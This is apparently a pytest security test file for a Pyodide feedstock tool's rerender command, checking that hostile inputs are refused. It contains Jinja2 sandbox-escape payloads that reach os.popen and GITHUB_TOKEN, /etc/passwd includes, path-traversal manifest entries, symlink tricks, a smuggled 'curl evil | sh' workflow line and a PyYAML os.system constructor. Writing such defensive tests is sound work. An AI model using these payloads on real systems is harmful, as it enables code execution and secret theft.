"""A hostile feedstock against ``rerender``: templates, symlinks, the manifest, its YAML.

Each attack is run through the real command line, as a maintainer's ``rerender`` or the bot's
would run it: it must be refused with one ``error:`` line naming the file (or be harmless),
exit non-zero, run nothing, read no secret and write nothing outside the feedstock.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from smithy.feedstock.init import run_init
from smithy.render.manifest import MANIFEST
from tests.conftest import METADATA
from tests.helpers import PURE_SDIST, write_recipe
from tests.integration.conftest import Run, git, smithy

SECRET = "ghs_not-a-real-token-but-a-secret-all-the-same"
OVERRIDE = ".pyodide-smithy/templates/README.md.j2"


@pytest.fixture
def feedstock(tmp_path: Path) -> Path:
    folder = write_recipe(tmp_path / "src" / "example-pkg", PURE_SDIST)
    return run_init(str(folder), output=tmp_path / "example-pkg-feedstock").feedstock


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file outside the feedstock that nothing may read into it, change or delete."""
    path = tmp_path / "victim.txt"
    path.write_text("precious\n")
    return path


def rerender(feedstock: Path, *args: str) -> Run:
    env = {"PYODIDE_SMITHY_GITHUB_APP_KEY": SECRET, "GITHUB_TOKEN": SECRET}
    return smithy("rerender", feedstock, *args, env=env)


def refused(run: Run, code: int, *needles: str) -> None:
    assert run.code == code, run.out + run.err
    lines = run.err.splitlines()
    assert len(lines) == 1, run.err
    assert lines[0].startswith("error: "), run.err
    assert "Traceback" not in run.err
    for needle in needles:
        assert needle in lines[0], lines[0]


def nothing_leaked(feedstock: Path) -> None:
    for base, _, files in os.walk(feedstock):
        for name in files:
            assert SECRET.encode() not in (Path(base) / name).read_bytes(), name


def override(feedstock: Path, text: str) -> None:
    path = feedstock / OVERRIDE
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.mark.parametrize(
    ("template", "because"),
    [
        ('{{ cycler.__init__.__globals__.os.popen("touch PWNED").read() }}', "unsafe"),
        ('{{ lipsum.__globals__["os"].environ["GITHUB_TOKEN"] }}', "'lipsum' is undefined"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "unsafe"),
        ("{{ self._TemplateReference__context }}", "unsafe"),
        ("{{ recipe.name.format.__globals__ }}", "unsafe"),
        ("{{ namespace }}{{ range(3) }}", "is undefined"),
        ('{% include "/etc/passwd" %}', "'/etc/passwd' is not a template"),
        ('{% import "../../victim.txt" as v %}', "'../../victim.txt' is not a template"),
        ('{% extends "/etc/hostname" %}', "is not a template"),
    ],
)
def test_a_template_override_cannot_reach_out(feedstock: Path, template: str, because: str) -> None:
    override(feedstock, template)
    for args in ((), ("--force",)):
        refused(rerender(feedstock, *args), 11, because, OVERRIDE)
    assert not (feedstock / "PWNED").exists()
    nothing_leaked(feedstock)


def test_only_plain_data_reaches_a_template(feedstock: Path) -> None:
    """What an override may read: the documented values; no path, no object with methods."""
    override(
        feedstock,
        "{{ recipe.name }} {{ recipe.maintainers | length }} {{ config.channel.label }} "
        "{{ recipe.directory is defined }} {{ xbuildenv.version }}\n",
    )
    git(feedstock, "add", "-A")
    git(feedstock, "commit", "-qm", "override")
    run = rerender(feedstock)
    assert run.code == 0, run.err
    assert (feedstock / "README.md").read_text() == "example-pkg 2 staging False 314.0.5\n"


def test_a_symlinked_override_is_refused(feedstock: Path, victim: Path) -> None:
    (feedstock / OVERRIDE).parent.mkdir(parents=True)
    (feedstock / OVERRIDE).symlink_to(victim)
    refused(rerender(feedstock, "--force"), 11, "symlink", OVERRIDE)
    assert b"precious" not in (feedstock / "README.md").read_bytes()


def test_a_symlinked_overrides_folder_is_refused(feedstock: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "README.md.j2").write_text("from elsewhere\n")
    (feedstock / ".pyodide-smithy" / "templates").symlink_to(elsewhere)
    refused(rerender(feedstock, "--force"), 11, "symlink", ".pyodide-smithy/templates")
    assert "from elsewhere" not in (feedstock / "README.md").read_text()


@pytest.mark.parametrize("entry", ["../victim.txt", "/tmp/victim.txt", ".git/config", "a/../b"])
def test_the_manifest_names_only_the_feedstock_own_files(
    feedstock: Path, victim: Path, entry: str
) -> None:
    manifest = feedstock / MANIFEST
    data = json.loads(manifest.read_text())
    data["files"][entry.replace("/tmp/victim.txt", str(victim))] = "0" * 64
    manifest.write_text(json.dumps(data))
    refused(rerender(feedstock), 7, "untrusted manifest", MANIFEST)
    forced = rerender(feedstock, "--force")  # an untrusted manifest is set aside, not obeyed
    assert forced.code == 0, forced.err
    assert victim.read_text() == "precious\n"
    assert (feedstock / ".git" / "config").is_file()
    assert rerender(feedstock, "--check").code == 0


def test_the_manifest_xbuildenv_cannot_carry_yaml_into_the_workflow(feedstock: Path) -> None:
    """rerender takes the pinned xbuildenv from the manifest: its values are checked too."""
    manifest = feedstock / MANIFEST
    data = json.loads(manifest.read_text())
    data["xbuildenv"]["python_version"] = "3.14.2\n        shell: curl evil | sh"
    manifest.write_text(json.dumps(data))
    refused(rerender(feedstock), 7, "unreadable manifest", "python_version", MANIFEST)
    forced = rerender(feedstock, "--force", "--xbuildenv-metadata", str(METADATA))
    assert forced.code == 0, forced.err
    assert "curl" not in (feedstock / ".github/workflows/build.yml").read_text()


def test_a_symlinked_generated_folder_is_not_written_through(
    feedstock: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.rmtree(feedstock / ".github" / "workflows")
    (feedstock / ".github" / "workflows").symlink_to(outside)
    refused(rerender(feedstock, "--force"), 7, "symlink", ".github/workflows")
    assert list(outside.iterdir()) == []


def test_a_generated_file_turned_symlink_is_replaced_not_followed(
    feedstock: Path, victim: Path
) -> None:
    readme = feedstock / "README.md"
    readme.unlink()
    readme.symlink_to(victim)
    refused(rerender(feedstock), 7, "edited by hand", "README.md")
    forced = rerender(feedstock, "--force")
    assert forced.code == 0, forced.err
    assert not readme.is_symlink()
    assert victim.read_text() == "precious\n"


@pytest.mark.parametrize(
    ("text", "because"),
    [
        ('xbuildenv: &v "314.0.5"\npyodide-build: *v\n', "aliases"),
        ('xbuildenv: !!python/object/apply:os.system ["touch PWNED"]\n', "constructor"),
        ("xbuildenv: " + "9" * 2_000_000 + "\n", "too large"),
    ],
)
def test_settings_yaml_cannot_run_or_explode(feedstock: Path, text: str, because: str) -> None:
    (feedstock / "pyodide-smithy.yml").write_text(text)
    run = rerender(feedstock, "--force")
    assert run.code in (5, 7), run.err
    refused(run, run.code, because, "pyodide-smithy.yml")
    assert not (feedstock / "PWNED").exists()


def test_settings_that_are_not_a_file_are_refused_without_hanging(feedstock: Path) -> None:
    config = feedstock / "pyodide-smithy.yml"
    config.unlink()
    config.symlink_to("/dev/zero")
    refused(rerender(feedstock, "--force"), 7, "symlink", "pyodide-smithy.yml")
    config.unlink()
    os.mkfifo(config)
    refused(rerender(feedstock, "--force"), 7, "not a regular file", "pyodide-smithy.yml")


def test_a_huge_or_endless_recipe_is_refused_at_once(tmp_path: Path) -> None:
    """A 10 MB meta.yaml, and one that is a link to /dev/zero: one line each, no hang."""
    huge = write_recipe(tmp_path / "huge" / "example-pkg", PURE_SDIST)
    (huge / "meta.yaml").write_text(PURE_SDIST + "# " + "x" * 10_000_000 + "\n")
    refused(smithy("-q", "init", huge, "-o", tmp_path / "out"), 4, "too large", "meta.yaml")
    endless = tmp_path / "endless" / "example-pkg"
    endless.mkdir(parents=True)
    (endless / "meta.yaml").symlink_to("/dev/zero")
    refused(smithy("-q", "init", endless, "-o", tmp_path / "out"), 4, "symlink", "meta.yaml")
    assert not (tmp_path / "out").exists()
